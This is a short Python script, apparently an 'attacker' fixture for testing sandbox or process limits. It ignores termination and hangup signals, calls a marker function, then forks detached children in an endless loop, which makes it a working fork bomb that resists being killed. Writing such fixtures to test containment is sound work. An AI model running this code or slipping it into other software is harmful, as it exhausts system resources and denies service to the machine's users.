import os
import signal

from attacker import mark

for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGCHLD):
    signal.signal(number, signal.SIG_IGN)
mark()
while True:
    try:
        os.setsid() if os.fork() == 0 else None
    except OSError:
        pass
